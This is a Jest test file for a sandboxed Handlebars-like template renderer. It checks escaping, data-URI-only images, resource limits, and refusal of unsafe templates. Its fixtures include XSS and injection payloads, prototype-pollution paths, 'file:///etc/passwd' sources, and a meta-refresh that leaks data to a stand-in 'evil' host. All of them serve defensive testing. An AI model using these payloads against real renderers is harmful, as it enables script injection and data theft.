import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import Handlebars from 'handlebars';
import { TemplateError, type TemplateErrorCode } from '../renderer.errors.js';
import { compileTemplate, maxTemplateCharacters } from './compile-template.js';
import { evaluateTemplate } from './evaluate-template.js';
import { toTemplateValue } from './to-template-value.js';

const format = { size: 'Letter', orientation: 'landscape' } as const;

const data = {
  title: 'Certificate & <more>',
  language: 'tr',
  empty: [],
  zero: 0,
  yes: true,
  person: { name: 'Ada', tags: ['a', 'b'] },
  days: [
    { day: 'Monday', items: [{ title: 'One' }, { title: 'Two', note: 'late' }] },
    { day: 'Tuesday', items: [] },
  ],
};

function evaluate(source: string, root: unknown = data): string {
  return evaluateTemplate(compileTemplate(source), toTemplateValue(root), format);
}

function faultOf(work: () => unknown): { code: TemplateErrorCode; line: number | undefined } {
  try {
    work();
  } catch (error) {
    if (error instanceof TemplateError) return { code: error.code, line: error.line };
    throw error;
  }
  throw new Error('No fault was found.');
}

const shared = [
  'Hello {{title}}',
  '{{person.name}} {{person.[name]}} {{person/name}} {{this.title}} {{./title}}',
  '{{nobody}}{{nobody.at.all}}{{person}}{{zero}}{{yes}}',
  '{{#if person}}yes{{else}}no{{/if}} {{#if empty}}yes{{else}}no{{/if}} {{#if zero}}yes{{/if}}',
  '{{#if nobody}}1{{else if yes}}2{{else}}3{{/if}}',
  '{{#unless empty}}none{{/unless}}{{^if yes}}no{{else}}yes{{/if}}',
  '{{#each days}}{{@index}}/{{@first}}/{{@last}} {{day}}: {{#each items}}{{title}} of {{../day}} in {{../../title}};{{else}}nothing{{/each}}{{/each}}',
  '{{#each days as |d i|}}{{i}}{{d.day}}{{#each d.items as |item|}}{{item.title}}{{i}}{{/each}}{{/each}}',
  '{{#each person}}{{@key}};{{/each}}{{#each person.tags}}{{@key}}={{this}};{{/each}}',
  '{{#each days}}{{#if items}}{{day}} {{../title}}{{/if}}{{/each}}',
  '{{#with person}}{{name}} {{../title}} {{@root.title}}{{else}}-{{/with}}{{#with nobody}}a{{else}}b{{/with}}',
  '{{#with person as |p|}}{{p.name}}{{#each p.tags}}{{this}}{{p.name}}{{/each}}{{/with}}',
  '{{#each days}}{{#each items}}{{@../index}}.{{@index}} {{/each}}{{/each}}',
  '  {{#if yes}}\n  line\n  {{/if}}\n{{~title~}} \n x {{!-- a comment --}}y \\{{title}}',
  '{{lookup person "name"}}{{lookup days 1}}',
  '{{person.tags.length}} {{person.tags.[1]}} {{days.[0].items.[1].note}}',
];

describe('the template language', () => {
  it.each(shared)('reads as Handlebars itself does: %s', (source) => {
    expect(evaluate(source)).toBe(Handlebars.compile(source)(data).replaceAll('[object Object]', ''));
  });

  it('escapes every value as Handlebars does', () => {
    const source = '<b title="{{value}}">{{value}}</b>';
    const ours = compileTemplate(source);
    const theirs = Handlebars.compile(source);
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (value) => {
        expect(evaluateTemplate(ours, { value }, format)).toBe(theirs({ value }));
      }),
    );
  });

  it('compares, chooses and changes case in the language of the document', () => {
    expect(
      evaluate('{{#if (eq person.name "Ada")}}a{{/if}}{{#if (gt 3 2)}}b{{/if}}{{#if (lt 3 2)}}c{{/if}}'),
    ).toBe('ab');
    expect(evaluate('{{#if (and yes (not zero))}}a{{/if}}{{or zero title}}')).toBe(
      'aCertificate &amp; &lt;more&gt;',
    );
    expect(evaluate('{{upper "i"}}{{lower "I"}}')).toBe('İı');
  });

  it('sets the phrases that the document asks for in italics, the longest first, and escapes the rest', () => {
    const italics = [
      'AMA PRA Category 1',
      'AMA PRA Category 1 Credits™',
      'AMA PRA Category 1 Credit(s)™',
      'a+b',
    ];
    const prose = (s: string) => evaluate('{{prose s}}', { s, italics });
    const category = 'AMA PRA <span class="unbroken">Category 1</span>';
    expect(prose('32.5 AMA PRA Category 1 Credits™ & AMA PRA Category 1 Credit(s)™.')).toBe(
      `32.5 <em class="phrase">${category} Credits™</em> &amp; <em class="phrase">${category} Credit(s)™</em>.`,
    );
    expect(prose('AMA PRA Category 1, not AMA PRA Category 12; <a+b> aab')).toBe(
      `<em class="phrase">${category}</em>, not AMA PRA Category 12; &lt;<em class="phrase">a+b</em>&gt; aab`,
    );
    expect(evaluate('{{prose s}}', { s: 'AMA PRA Category 1 Credits™' })).toBe('AMA PRA Category 1 Credits™');
  });

  it('makes images of data addresses only', () => {
    const image = 'data:image/png;base64,iVBORw0KGgo=';
    expect(evaluate('{{image a alt="S"}}', { a: image })).toBe(`<img src="${image}" alt="S">`);
    for (const a of [
      'file:///etc/passwd',
      'https://example.org/a.png',
      'data:text/html;base64,AA==',
      `${image}" onerror="x`,
    ]) {
      expect(evaluate('{{image a}}', { a })).toBe('');
    }
    expect(evaluate('{{svg a}}', { a: '<svg onload="x()"/>' })).toMatch(
      /^<img src="data:image\/svg\+xml;base64,[\w+/=]+" alt="">$/,
    );
  });

  it('escapes strings for style sheets', () => {
    expect(evaluate('{{cssString a}}', { a: 'a"}</style><b>\\' })).toBe(
      '"a\\22 \\7d \\3c \\2f style\\3e \\3c b\\3e \\5c "',
    );
  });
});

describe('a template that is refused', () => {
  it.each<[string, TemplateErrorCode]>([
    ['{{constructor}}', 'template.forbidden_path'],
    ['{{__proto__}}', 'template.forbidden_path'],
    ['{{person.constructor.name}}', 'template.forbidden_path'],
    ['{{person.[__proto__]}}', 'template.forbidden_path'],
    ['{{#with constructor}}x{{/with}}', 'template.forbidden_path'],
    ['{{#each (lookup person.constructor "a")}}x{{/each}}', 'template.forbidden_path'],
    ['{{eq title constructor}}', 'template.forbidden_path'],
    ['{{helperMissing "a"}}', 'template.unknown_helper'],
    ['{{log title}}', 'template.unknown_helper'],
    ['{{(lookup person "name") 1}}', 'template.syntax'],
    ['{{or (nothing 1)}}', 'template.unknown_helper'],
    ['{{#nothing title}}x{{/nothing}}', 'template.unknown_helper'],
    ['{{#person}}x{{/person}}', 'template.unknown_helper'],
    ['{{#if}}x{{/if}}', 'template.bad_argument'],
    ['{{qr ""}}', 'template.bad_argument'],
    ['{{{title}}}', 'template.raw_output'],
    ['{{&title}}', 'template.raw_output'],
    ['{{> partial}}', 'template.unsupported'],
    ['{{> (lookup . "partial")}}', 'template.unsupported'],
    ['{{#> layout}}x{{/layout}}', 'template.unsupported'],
    ['{{#*inline "a"}}{{> a}}{{/inline}}{{> a}}', 'template.unsupported'],
    ['{{* decorator}}', 'template.unsupported'],
    ['{{#if yes}}', 'template.syntax'],
    ['{{', 'template.syntax'],
    ['<script>alert(1)</script>', 'template.forbidden_markup'],
    ['<ScRiPt src=x>', 'template.forbidden_markup'],
    ['<iframe src="data:text/html,x">', 'template.forbidden_markup'],
    ['<meta http-equiv="refresh" content="0;url=http://example.org">', 'template.forbidden_markup'],
    ['<link rel="stylesheet" href="x">', 'template.forbidden_markup'],
    ['<style>@import "x";</style>', 'template.forbidden_markup'],
    ['<img src="http://example.org/a.png">', 'template.forbidden_markup'],
    ["<img src='file:///etc/passwd'>", 'template.forbidden_markup'],
    ['<style>p{background:url( "//example.org/a")}</style>', 'template.forbidden_markup'],
    ['x'.repeat(maxTemplateCharacters + 1), 'template.too_large'],
    ['{{title}}'.repeat(5000), 'template.too_large'],
    ['{{#if yes}}'.repeat(40) + '{{/if}}'.repeat(40), 'template.too_deep'],
    ['{{eq '.concat('(not '.repeat(60), '1', ')'.repeat(60), '}}'), 'template.too_deep'],
  ])('%#: %.40s → %s', (source, code) => {
    expect(faultOf(() => evaluate(source)).code).toBe(code);
  });

  it('names the line', () => {
    expect(faultOf(() => compileTemplate('one\ntwo\n{{nope 1}}'))).toEqual({
      code: 'template.unknown_helper',
      line: 3,
    });
    expect(faultOf(() => compileTemplate('one\n\n{{#if a}}'))).toMatchObject({
      code: 'template.syntax',
      line: 3,
    });
    expect(faultOf(() => compileTemplate('one\n<script>'))).toEqual({
      code: 'template.forbidden_markup',
      line: 2,
    });
  });
});

describe('data that is not data', () => {
  it('shows nothing of prototypes, however asked', () => {
    const root = { list: [1], key: 'constructor', proto: '__proto__', text: 'abc' };
    expect(
      evaluate(
        '{{lookup list key}}{{lookup this proto}}{{lookup text key}}{{list.push}}{{toString}}{{text.length}}',
        root,
      ),
    ).toBe('');
  });

  it('drops functions and what is inherited', () => {
    class Person {
      name = 'Ada';
      secret(): string {
        return 'secret';
      }
      get inherited(): string {
        return 'inherited';
      }
    }
    const root = { person: new Person(), call: () => 'called' };
    expect(evaluate('{{person.name}}{{person.secret}}{{person.inherited}}{{call}}', root)).toBe('Ada');
  });
});

/** Time of this process alone, so that a busy machine does not fail a test. */
function cpuMilliseconds(since: NodeJS.CpuUsage): number {
  const { user, system } = process.cpuUsage(since);
  return (user + system) / 1000;
}

describe('a tag in pieces', () => {
  it.each([
    '<m{{nobody}}eta http-equiv="refresh" content="0;url=http://evil/leak?{{person.name}}">',
    '<scr{{#if yes}}ipt{{/if}}>x</script>',
    '<b{{lookup person "nothing"}}ase href="http://evil/">',
    '<{{#each person.tags}}{{#if @last}}link{{/if}}{{/each}} rel="stylesheet" href="http://evil/">',
    '<{{nobody}}iframe></iframe>',
    '<f{{!-- a comment --}}orm>',
  ])('is refused when it is put together: %s', (source) => {
    const template = compileTemplate(source);
    const work = () => evaluateTemplate(template, toTemplateValue(data), format);
    expect(faultOf(work).code).toBe('template.forbidden_markup');
  });

  it('is none where data says so', () => {
    const title = '<meta> JavaScript: url(http://example.org) @import <script>';
    expect(evaluate('{{title}}', { title })).toContain('&lt;meta&gt; JavaScript:');
  });
});

describe('a template that asks for too much', () => {
  const long = { list: Array.from({ length: 1000 }, (_, index) => index), text: 'x'.repeat(10_000) };

  it.each<[string, TemplateErrorCode]>([
    [
      '{{#each list}}{{#each ../list}}{{#each ../../list}}{{#each @root.list}}{{/each}}{{/each}}{{/each}}{{/each}}',
      'template.too_much_work',
    ],
    ['{{#each list}}{{@root.text}}{{/each}}', 'template.too_much_output'],
    [`{{#each list}}${'{{eq (eq 1 2) (eq 3 4)}}'.repeat(500)}{{/each}}`, 'template.too_much_work'],
    ['{{#each list}}{{#if (qr @root.address)}}{{/if}}{{/each}}', 'template.too_much_work'],
    ['{{#each list}}{{#if (rosette)}}{{/if}}{{/each}}', 'template.too_much_work'],
    [
      '{{#each list}}{{#each @root.list}}{{#if (upper @root.text)}}{{/if}}{{/each}}{{/each}}',
      'template.too_much_work',
    ],
    ['{{#each list}}{{guilloche}}{{qr @root.address}}{{/each}}', 'template.too_much_output'],
  ])('ends soon: %.60s', (source, code) => {
    const template = compileTemplate(source);
    const root = toTemplateValue({ ...long, address: 'https://example.org/verify/1' });
    const start = process.cpuUsage();
    expect(faultOf(() => evaluateTemplate(template, root, format)).code).toBe(code);
    expect(cpuMilliseconds(start)).toBeLessThan(1000);
  });

  it.each([
    '{{'.repeat(3999),
    '{{!'.repeat(3999),
    '{{{{a}}}}'.repeat(900),
    '{{#if a}}'.repeat(1900),
    `{{a ${'('.repeat(100_000)}`,
    `{{${' '.repeat(250_000)}`,
    `{{"${'\\'.repeat(250_000)}`,
    `{{a.${'b.'.repeat(900)}b}}`.repeat(60),
    `{{a.${'b.'.repeat(120_000)}}}`,
    '{{#if a}}'.repeat(31) + '{{b}}'.repeat(3000) + '{{/if}}'.repeat(31),
    '<'.repeat(250_000),
    `<${' '.repeat(250_000)}`,
    `url(${' '.repeat(250_000)}`,
  ])('is parsed or refused in short time: %.20s…', (source) => {
    const start = process.cpuUsage();
    try {
      compileTemplate(source);
    } catch (error) {
      if (!(error instanceof TemplateError)) throw error;
    }
    expect(cpuMilliseconds(start)).toBeLessThan(1000);
  });
});
